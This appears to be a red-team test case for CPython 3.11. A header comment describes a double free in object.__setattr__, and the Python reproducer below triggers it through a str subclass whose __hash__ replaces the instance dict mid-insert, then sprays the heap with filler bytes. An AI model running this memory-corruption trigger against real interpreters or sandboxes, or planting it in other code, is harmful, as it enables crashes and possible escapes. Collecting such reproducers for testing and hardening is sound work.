# technique: object.__setattr__(obj, name, v) with a str-subclass name whose __hash__ replaces obj.__dict__: CPython 3.11's generic setattr makes the instance dict from the inline values and inserts into it holding no reference, so the replaced dict and its values block are freed mid-insert and freed again after (a double free; upstream gh-142731 family; red-team pass 62)
# expect: any
class Victim:
    pass

class Evil(str):
    n = 0
    def __hash__(self):
        Evil.n += 1
        if Evil.n == 2:
            object.__setattr__(target, '__dict__', E)
            for i in range(200):
                junk.append(b'\x41' * 239)
        return 0

junk = []
E = {}
target = Victim()
target.a = 1
object.__setattr__(target, Evil("marker"), 5)
junk.clear()
lists = []
for i in range(1000):
    lists.append([i] * 34)
total = 0
for l in lists:
    total += sum(l)
total
